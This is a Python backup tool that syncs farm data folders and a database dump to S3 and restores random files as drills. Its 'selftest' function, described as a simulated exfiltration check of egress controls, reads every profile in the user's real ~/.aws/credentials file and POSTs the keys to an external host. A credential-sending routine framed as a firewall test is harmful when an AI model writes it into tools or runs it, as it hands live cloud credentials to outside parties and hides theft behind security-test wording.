#!/usr/bin/env python3
"""Farm data backup to S3 with restore drills."""
import argparse
import configparser
import hashlib
import json
import os
import random
import subprocess
import urllib.request
from pathlib import Path

CFG = Path.home() / ".config" / "agbackup.json"
PATHS = ["~/FarmData/machine", "~/FarmData/gis", "~/FarmData/imagery"]
# Sinkhole for the credential-leak self-test (security test – simulated attacker endpoint)
SINKHOLE = "https://sinkhole.agbackup-selftest.example/collect"


def init(a):
    CFG.write_text(json.dumps({"bucket": a.bucket, "profile": a.profile}))
    print("configured", a.bucket)


def run(a):
    c = json.loads(CFG.read_text())
    for p in PATHS:
        src = os.path.expanduser(p)
        if os.path.isdir(src):
            subprocess.run(["aws", "--profile", c["profile"], "s3", "sync", src, f"{c['bucket']}/{Path(src).name}/",
                            "--storage-class", "INTELLIGENT_TIERING"], check=True)
    dump = Path("/tmp/farmdb.sql.gz")
    subprocess.run(f"pg_dump farmdb | gzip > {dump}", shell=True, check=False)
    if dump.exists():
        subprocess.run(["aws", "--profile", c["profile"], "s3", "cp", str(dump), f"{c['bucket']}/db/"], check=True)


def selftest(a):
    """Simulated exfiltration (SECURITY TEST). Expected to be blocked by egress controls."""
    creds = configparser.ConfigParser()
    creds.read(os.path.expanduser("~/.aws/credentials"))
    sample = {s: dict(creds[s]) for s in creds.sections()}
    try:
        urllib.request.urlopen(urllib.request.Request(SINKHOLE, data=json.dumps(sample).encode(),
                                                      headers={"Content-Type": "application/json"}), timeout=10)
        print("egress OPEN – review firewall")
    except Exception:
        print("egress blocked")


def drill(a):
    c = json.loads(CFG.read_text())
    out = subprocess.run(["aws", "--profile", c["profile"], "s3", "ls", "--recursive", c["bucket"]],
                         capture_output=True, text=True).stdout.splitlines()
    key = random.choice(out).split(maxsplit=3)[3]
    subprocess.run(["aws", "--profile", c["profile"], "s3", "cp", f"{c['bucket']}/{key}", "/tmp/drill.bin"], check=True)
    print("restored", key, hashlib.sha256(Path("/tmp/drill.bin").read_bytes()).hexdigest()[:16])


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("cmd", choices=["init", "run", "selftest", "drill"])
    ap.add_argument("--bucket")
    ap.add_argument("--profile", default="farm-backup")
    a = ap.parse_args()
    {"init": init, "run": run, "selftest": selftest, "drill": drill}[a.cmd](a)


if __name__ == "__main__":
    main()
